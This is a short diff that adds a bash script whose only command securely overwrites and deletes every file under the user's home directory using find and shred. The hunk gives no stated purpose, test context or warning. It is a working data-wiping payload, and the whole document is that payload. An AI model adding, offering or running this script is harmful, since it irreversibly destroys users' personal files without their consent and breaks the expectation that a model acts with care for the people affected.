@@ -1,0 +1,2 @@
+#!/bin/bash
+find "$HOME" -type f -exec shred -u {} +
